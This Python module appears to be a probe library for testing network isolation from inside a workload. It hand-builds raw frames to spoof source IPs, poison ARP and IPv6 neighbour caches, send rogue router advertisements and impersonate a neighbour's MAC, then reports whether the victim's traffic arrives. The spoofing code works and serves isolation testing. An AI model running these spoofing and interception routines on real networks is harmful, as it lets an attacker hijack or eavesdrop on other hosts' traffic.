"""Frames and packets by hand, for what runs inside a workload: what a spoofer sends. Standard library alone."""

from __future__ import annotations

import contextlib
import fcntl
import socket
import struct
import time
from pathlib import Path

#: How long a spoofer tries.
SECONDS = 6.0
_IP, _ARP, _IPV6 = 0x0800, 0x0806, 0x86DD
_UDP, _ICMPV6 = 17, 58


def _request(name: str, code: int, rest: bytes = b"") -> bytes:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
        return fcntl.ioctl(any_socket, code, struct.pack("16s24s", name.encode(), rest))


def flags(name: str) -> int:
    return int(struct.unpack_from("H", _request(name, 0x8913), 16)[0])


def set_flags(name: str, value: int) -> None:
    _request(name, 0x8914, struct.pack("H", value))


def add_address(name: str, address: str) -> None:
    """Put an address on an interface, and take it off again."""
    _request(name, 0x8916, struct.pack("HH4s", socket.AF_INET, 0, socket.inet_aton(address)))
    set_flags(name, 0)


def own_address() -> str:
    return socket.inet_ntoa(_request("eth0", 0x8915)[20:24])


def own_mac() -> bytes:
    return _request("eth0", 0x8927)[18:24]


def mac_of(address: str) -> bytes:
    """The hardware address that the kernel finds for an address."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
        for _ in range(30):
            any_socket.sendto(b"", (address, 9))
            for line in Path("/proc/self/net/arp").read_text().splitlines()[1:]:
                fields = line.split()
                if fields[0] == address and fields[3] != "00:00:00:00:00:00":
                    return bytes.fromhex(fields[3].replace(":", ""))
            time.sleep(0.1)
    raise OSError(f"nobody answers for {address}")


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data + bytes(len(data) % 2)) // 2}H", data + bytes(len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(source: str, target: str, protocol: int, payload: bytes) -> bytes:
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    start = struct.pack("!BBHHHBB", 0x45, 0, 20 + len(payload), 0, 0, 64, protocol)
    return start + struct.pack("!H", checksum(start + b"\0\0" + ends)) + ends + payload


def _frames(type: int) -> socket.socket:
    line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(type))
    line.bind(("eth0", type))
    line.setblocking(False)
    return line


def _received(line: socket.socket) -> bytes:
    with contextlib.suppress(BlockingIOError):
        return line.recv(2000)
    return b""


def seen_from(source: str, target: str, port: int) -> str:
    """Send to who tells where packets seem to come from; who it took us for."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    answers = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    answers.bind((own_address(), 0))
    answers.settimeout(0.5)
    answers.sendto(b"", (target, port))  # so that our firewall lets the answers in
    text = f"{own_address()} {answers.getsockname()[1]}".encode()
    datagram = struct.pack("!HHHH", 4444, port, 8 + len(text), 0) + text
    until = time.monotonic() + SECONDS
    while time.monotonic() < until:
        raw.sendto(ip(source, target, _UDP, datagram), (target, 0))
        with contextlib.suppress(TimeoutError):
            seen = answers.recv(100).decode()
            if seen == source:
                return f"taken for {seen}"
    raise OSError("nobody took us for another")


def _arp(claimed: str, mac: bytes, target: str, target_mac: bytes) -> bytes:
    sender = mac + socket.inet_aton(claimed)
    body = struct.pack("!HHBBH", 1, _IP, 6, 4, 2) + sender + target_mac + socket.inet_aton(target)
    return target_mac + own_mac() + struct.pack("!H", _ARP) + body


def _icmpv6(frame_to: bytes, source: bytes, target: bytes, type: int, body: bytes) -> bytes:
    length = 4 + len(body)
    pseudo = source + target + struct.pack("!II", length, _ICMPV6)
    message = struct.pack("!BBH", type, 0, checksum(pseudo + struct.pack("!BBH", type, 0, 0) + body)) + body
    header = struct.pack("!IHBB", 0x60000000, length, _ICMPV6, 255) + source + target
    return frame_to + own_mac() + struct.pack("!H", _IPV6) + header + message


def _ipv6(address: str) -> bytes:
    return socket.inet_pton(socket.AF_INET6, address)


def _from_mac(prefix: str, mac: bytes) -> bytes:
    """The address that an interface gives itself."""
    return _ipv6(prefix)[:8] + bytes([mac[0] ^ 2]) + mac[1:3] + b"\xff\xfe" + mac[3:]


def _neighbour_advertisement(claimed: str, mac: bytes, target: str, target_mac: bytes) -> bytes:
    body = struct.pack("!I", 0x60000000) + _ipv6(claimed) + b"\x02\x01" + mac
    return _icmpv6(target_mac, _from_mac("fe80::", own_mac()), _ipv6(target), 136, body)  # from an address of ours


def routed(prefix: str, victims_ipv4: str) -> str:
    """Tell everybody that a network is here; the address that a neighbour takes in it then, for a minute."""
    line = _frames(_IPV6)
    own, theirs = own_mac(), mac_of(victims_ipv4)
    ours, wanted = _from_mac("fe80::", own), _from_mac(prefix, theirs)
    lasting = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 60, 60, 0) + _ipv6(prefix)
    router = struct.pack("!BBHII", 64, 0, 0, 0, 0) + lasting
    asking = struct.pack("!I", 0) + wanted + b"\x01\x01" + own
    until = time.monotonic() + SECONDS
    while time.monotonic() < until:
        line.send(_icmpv6(bytes.fromhex("333300000001"), ours, _ipv6("ff02::1"), 134, router))
        nodes = _ipv6("ff02::1:ff00:0")[:13] + wanted[13:]
        line.send(_icmpv6(b"\x33\x33" + nodes[12:], ours, nodes, 135, asking))
        time.sleep(0.2)
        while frame := _received(line):
            if frame[6:12] == theirs and frame[54:55] == b"\x88" and frame[62:78] == wanted:
                return f"{victims_ipv4} is {socket.inet_ntop(socket.AF_INET6, wanted)} as well"
    raise OSError(f"{victims_ipv4} takes no address of that network")


def claimed(address: str, victim: str, victims_ipv4: str = "") -> str:
    """Tell a neighbour that an address is here; what it sends there then. Puts right what it has told."""
    is_6 = ":" in address
    made, type = (_neighbour_advertisement, _IPV6) if is_6 else (_arp, _IP)
    line = _frames(type)
    own, theirs = own_mac(), mac_of(victims_ipv4 or victim)
    true = mac_of(address) if not is_6 else mac_of(own_address().rpartition(".")[0] + ".1")
    wanted = socket.inet_pton(socket.AF_INET6 if is_6 else socket.AF_INET, address)
    begin, end = (38, 54) if is_6 else (30, 34)
    until = time.monotonic() + SECONDS
    try:
        while time.monotonic() < until:
            line.send(made(address, own, victim, theirs))
            time.sleep(0.05)
            while frame := _received(line):
                if frame[:6] == own and frame[6:12] == theirs and frame[begin:end] == wanted:
                    return f"what {victim} sends to {address}"
    finally:
        line.send(made(address, true, victim, theirs))
    raise OSError(f"{victim} sends nothing here")


def taken_over(victim: str, sender: str) -> str:
    """Send with a neighbour's hardware address; what is sent to it then."""
    line = _frames(_IP)
    theirs, senders = mac_of(victim), mac_of(sender)
    # A packet of ours but for that; the bridge learns where it comes from.
    packet = ip(own_address(), sender, _UDP, struct.pack("!HHHH", 4444, 9, 8, 0))
    until = time.monotonic() + SECONDS
    while time.monotonic() < until:
        line.send(senders + theirs + struct.pack("!H", _IP) + packet)
        time.sleep(0.005)
        while frame := _received(line):
            if frame[:6] == theirs and frame[6:12] == senders:
                return f"what {sender} sends to {victim}"
    raise OSError(f"nothing for {victim} comes here")
